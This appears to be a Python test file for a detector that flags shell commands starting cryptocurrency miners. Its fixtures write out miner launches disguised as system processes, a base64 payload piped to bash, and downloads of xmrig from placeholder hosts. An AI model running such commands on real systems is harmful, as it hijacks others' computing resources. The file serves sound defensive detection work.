"""Miners started by commands, by name or by form; and commands that only talk about them."""

from __future__ import annotations

import pytest

from pipeline.detectors import miner_command as detector
from pipeline.shell.script import read
from tests.detectors.verdicts import SCORE_50, SCORE_70, said, session

MONERO = "4" + "8" + "a" * 93

STARTED = [
    "./xmrig -o pool.example:3333 -u wallet",
    "nohup ./t-rex -a kawpow -o stratum+tcp://pool.example:9999 -u W.x >/dev/null 2>&1 &",
    "../xmrig -o rx.pool.example:8443 --tls -u 48lab",
    "xmrig",
    "./xmrig-6.21.0/xmrig --config=config.json",
    "sudo nice -n 19 ./lolMiner --algo ETHASH --pool pool.example:4444 --user 0x" + "a" * 40,
    *(f"./{name} -o pool.example:3333 -u wallet -p x" for name in (
        "gminer", "nbminer", "teamredminer", "PhoenixMiner", "ethminer", "cpuminer", "minerd", "ccminer",
        "SRBMiner-MULTI",
        "bzminer", "rigel", "cpuminer-avx2", "xmrig-cuda", "lolMiner_v1.76",
    )),
    "./kworker -o stratum+tcp://203.0.113.9:3333 -u wallet -p x",
    "./python3 --url=stratum+ssl://pool.example:443 --user=me",
    "/tmp/sshd -o 203.0.113.9:80 -u " + MONERO + " -p x --donate-level 1",
    "./bench -o pool.example:3333 -u wallet --algo rx/0 -p x",
    "./a.out -a cryptonight -o pool.example:3333 -u me -p x",
    "POOL=stratum+tcp://pool.example:3333; ./run $POOL wallet",
    "bash -c './m -o stratum+tcp://pool.example:3333 -u w'",
    "echo Li9tIC1vIHN0cmF0dW0rdGNwOi8vcG9vbC5leGFtcGxlOjMzMzMgLXUgdw== | base64 -d | bash",
    "docker run -d --rm metal3d/xmrig",
    "docker run --gpus all someone/t-rex:latest -a ethash -o stratum+tcp://pool.example:1 -u w",
    "cat > config.json <<E\n{\"pools\": [{\"url\": \"pool.example:3333\", \"user\": \"w\"}], \"donate-level\": 1}\nE",
    "python3 -c \"import socket; s=socket.create_connection(('pool.example',3333)); m='mining.subscribe'\"",
    "python3 -c \"import subprocess; subprocess.Popen(['./xmrig','-o','pool.example:3333'])\"",
    "cd /tmp && wget https://files.example/xmrig-6.21.0-linux-x64.tar.gz && tar xf xmrig-6.21.0-linux-x64.tar.gz",
    "wget http://203.0.113.5/xmrig; chmod +x xmrig",
]  # fmt: skip

INNOCENT = [
    "grep -R xmrig .",
    "grep -rn 'stratum+tcp://' src",
    "man xmrig",
    "echo 'xmrig -o pool.example:3333 -u wallet'",
    "echo stratum+tcp://pool.example:3333 >> notes.md",
    "pip install xmrig-docs",
    "# ./xmrig -o pool.example:3333",
    "cat > README.md <<E\nrun ./xmrig -o stratum+tcp://pool.example:3333 -u wallet\nE",
    "git log --grep xmrig",
    "pkill xmrig",
    "ps aux | grep xmrig",
    "cat xmrig.log",
    "xmrig --version",
    "nvidia-smi -pm 1; nvidia-smi -pl 250; nvidia-smi -lgc 1410",
    "curl -o out.json -u me:pw https://api.example:8443/v1",
    "sort -o out.txt -u in.txt",
    "ps -o user:20,pid -u root",
    "python3 train.py --user me --algo ppo --pool 8",
    "psql -h db.example -p 5432 -U me",
    "mount -o ro,uid=1000 /dev/sdb1 /mnt",
    "./server -p 8080 -o out.log",
    "docker run redis:7",
    "ssh -o ConnectTimeout=5 -p 2222 u@h.example",
    "pytest tests/test_miner.py -k coin",
    "curl https://example.org/pool.ntp.org",
]


@pytest.mark.parametrize("command", STARTED)
def test_a_miner_is_found_by_name_or_form(command: str) -> None:
    assert said(detector, command) >= SCORE_70


@pytest.mark.parametrize("command", INNOCENT)
def test_innocent(command: str) -> None:
    assert said(detector, command) == 0.0


@pytest.mark.parametrize("command", [
    "git clone https://github.com/xmrig/xmrig",
    "apt-get install -y cpuminer",
    "sysctl -w vm.nr_hugepages=128",
    "echo 128 > /proc/sys/vm/nr_hugepages",
    "modprobe msr",
    "./bench -o 127.0.0.1:3333",
    "ssh -fN -L 3333:eu.coinpool.example:3333 u@203.0.113.7",
    "chmod +x xmrig",
])  # fmt: skip
def test_preparing_alone_stays_below_an_alert(command: str) -> None:
    assert 0.0 < said(detector, command) < SCORE_50


def test_preparations_add_up() -> None:
    prepared = session(
        detector, ["sysctl -w vm.nr_hugepages=128", "git clone https://github.com/xmrig/xmrig", "cd xmrig", "make -j"]
    )
    assert prepared[1] > prepared[0]
    assert max(prepared) >= SCORE_70


def test_the_words_name_the_pool_and_not_the_wallet() -> None:
    finding = detector.judge(read(f"/tmp/kworker -o 203.0.113.9:3333 -u {MONERO} -p secret"))
    assert finding is not None
    assert "203.0.113.9:3333" in finding.words
    assert MONERO not in finding.words
    assert "secret" not in finding.words


def test_a_name_of_great_length_costs_nothing() -> None:
    assert said(detector, "xmrig" + "_" * 60000 + "!") == 0.0
